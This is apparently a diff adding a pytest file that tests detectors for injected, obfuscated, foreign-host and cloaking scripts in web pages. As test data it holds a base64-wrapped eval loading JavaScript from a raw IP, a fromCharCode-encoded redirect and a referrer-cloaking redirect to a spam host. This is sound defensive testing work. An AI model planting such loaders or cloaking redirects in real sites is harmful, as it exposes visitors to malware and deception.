@@ -1,0 +1,142 @@
+"""Script injection detectors (SEO301 obfuscation, SEO302 foreign resources, SEO303 redirects).
+
+Example files under tests/examples/script_injection/ carry their expectation in a comment
+(``<!-- expect: SEO301 high high -->`` or ``<!-- expect: none -->``): injected loaders,
+cloaking and miners next to the legitimate snippets that use the same tools (tag managers,
+pixels, ad and consent loaders, legacy ``document.write(unescape(...))`` analytics, e-mail
+protectors, frame-busting, same-site mobile redirects, minified bundles).
+"""
+
+from __future__ import annotations
+
+import base64
+import math
+import re
+
+import pytest
+
+from conftest import CORPUS, EXAMPLES
+from detector.detectors.script_injection import (
+    ForeignResource, ObfuscatedScript, RedirectCloaking, decode_layers, host_shape, is_known_domain,
+    known_domains, parse_known_hosts, script_intents, strong_shape, unpack_packer,
+)
+from detector.page import page_from_file, page_from_text
+from detector.scoring import CONFIDENCE_WEIGHT, SEVERITY_WEIGHT
+
+DETECTORS = (ObfuscatedScript(), ForeignResource(), RedirectCloaking())
+EXAMPLE_FILES = sorted((EXAMPLES / "script_injection").glob("*.html"))
+
+
+def weight(f) -> float:
+    return SEVERITY_WEIGHT[f.severity] * CONFIDENCE_WEIGHT[f.confidence]
+
+
+def run(page):
+    findings, feats = [], {}
+    for d in DETECTORS:
+        f, x = d.run(page)
+        findings += f
+        feats.update(x)
+    return findings, feats
+
+
+def test_examples_present():
+    names = [p.name for p in EXAMPLE_FILES]
+    assert sum(n.startswith("bad_") for n in names) >= 8
+    assert sum(n.startswith("okay_") for n in names) >= 6
+
+
+@pytest.mark.parametrize("path", EXAMPLE_FILES, ids=lambda p: p.stem)
+def test_example(path):
+    page = page_from_file(str(path))
+    findings, feats = run(page)
+    m = re.search(r"<!-- expect: ([^-]+?) -->", page.source)
+    assert m
+    parts = m.group(1).split()
+    if parts == ["none"]:
+        strong = [f for f in findings if weight(f) >= 0.15]
+        assert not strong, [f.message for f in strong]
+        return
+    fid, sev, conf = parts
+    mine = [f for f in findings if f.id == fid]
+    assert mine, f"no {fid} finding"
+    assert max(weight(f) for f in mine) >= SEVERITY_WEIGHT[sev] * CONFIDENCE_WEIGHT[conf] - 1e-9, \
+        [(f.severity, f.confidence, f.message) for f in mine]
+    for f in findings:
+        assert f.kind == "script_injection"
+        assert f.evidence.get("where") in ("script", "html")
+        assert len(str(f.evidence.get("snippet", ""))) <= 300
+
+
+def test_known_hosts_file_parses():
+    known = known_domains()
+    assert len(known) > 300
+    for d in ("googletagmanager.com", "google-analytics.com", "facebook.net", "youtube.com", "doubleclick.net",
+              "cookielaw.org", "jsdelivr.net", "disqus.com", "stripe.com", "recaptcha.net", "openstreetmap.org"):
+        assert d in known, d
+    # every entry is a registered domain, not a host or a comment
+    assert all(" " not in d and "#" not in d and "." in d for d in known)
+    assert is_known_domain("d1x2y3.cloudfront.net")  # under a listed private suffix
+    assert is_known_domain("a248.e.akamai.net")
+    assert not is_known_domain("qwxzkrt.top")
+
+
+def test_parse_known_hosts_normalises_entries():
+    raw = "# CDNs\ncdn.example-cdn.com  # a host, means its site\nWWW.Foo.co.uk\n\n  # nothing\nbar.org\n"
+    assert parse_known_hosts(raw) == frozenset({"example-cdn.com", "foo.co.uk", "bar.org"})
+
+
+def test_host_shapes():
+    assert strong_shape(host_shape("185.22.1.9")) == 1
+    assert host_shape("192.168.1.20") == ("private IP address",)
+    assert strong_shape(host_shape("qwxzkrtpl.top")) == 1 and "random-looking name" in host_shape("qwxzkrtpl.top")
+    assert host_shape("www.wikipedia.org") == ()
+    assert strong_shape(host_shape("brightspotcdn.com")) == 0
+
+
+def test_decoders():
+    payload = "document.write('<script src=\"http://185.1.2.3/x.js\"></scr'+'ipt>')"
+    js = f'eval(atob("{base64.b64encode(payload.encode()).decode()}"))'
+    payloads, techs = decode_layers(js)
+    assert "base64" in techs and any("185.1.2.3" in p for p in payloads)
+    codes = ",".join(str(ord(c)) for c in "top.location='http://a.top/'")
+    payloads, techs = decode_layers(f"eval(String.fromCharCode({codes}))")
+    assert "fromCharCode" in techs and any("a.top" in p for p in payloads)
+    assert unpack_packer("0 1=2", 36, 3, "var|x|5") == "var x=5"
+
+
+def test_intents_ignore_same_site_and_known_hosts():
+    site = "example-news.com"
+    assert not script_intents("document.write('<script src=\"https://www.google-analytics.com/ga.js\"></script>')", site)
+    assert not script_intents("window.location.href = 'https://m.example-news.com/a';", site)
+    assert not script_intents("if (top != self) { top.location = self.location; }", site)
+    its = script_intents("if (document.referrer.indexOf('google') > -1) location.replace('http://spam-shop.top/');", site)
+    assert [i.kind for i in its] == ["referrer-cloak"] and its[0].domain == "spam-shop.top"
+    # a regular expression literal is not a host
+    assert not script_intents("var r = /^(?:[a-z]+:)?\\/\\//i.test(u); location.href = u;", site)
+
+
+def test_text_record_features_are_nan():
+    page = page_from_text("eval(atob('ZG9jdW1lbnQ=')) http://185.1.2.3/x.js", url="http://x.com/")
+    findings, feats = run(page)
+    assert not findings and feats and all(math.isnan(v) for v in feats.values())
+
+
+@pytest.mark.parametrize("rel", ["pages/dragnet/R179.html", "pages/trafilatura/eval__cubadebate.cu-sesiona.html",
+                                 "pages/cleaneval/final_232.html", "pages/htmldate/test_set__1628285861.html",
+                                 "pages/readability/folha.html", "pages/dragnet/R405.html"])
+def test_legitimate_obfuscation_on_clean_corpus_pages(shared_dir, rel):
+    """Packers, e-mail protectors, an ad network's eval(atob) fallback, a same-site referrer
+    redirect and TypePad's scripts after </html>: obfuscated or unusual, not injected."""
+    page = page_from_file(str(CORPUS / rel), mode="html")
+    findings, feats = run(page)
+    assert not [f for f in findings if weight(f) >= 0.26], [f.message for f in findings]
+
+
+@pytest.mark.parametrize("rel", ["pages/dragnet/R179.html", "pages/trafilatura/eval__cubadebate.cu-sesiona.html"])
+def test_packer_is_a_feature_not_a_finding(shared_dir, rel):
+    page = page_from_file(str(CORPUS / rel), mode="html")
+    findings, feats = run(page)
+    assert feats["SEO301.packer"] == 1.0 and feats["SEO301.obf_score"] > 0
+    assert feats["SEO301.obf_with_intent"] == 0.0
+    assert not [f for f in findings if f.id == "SEO301"]
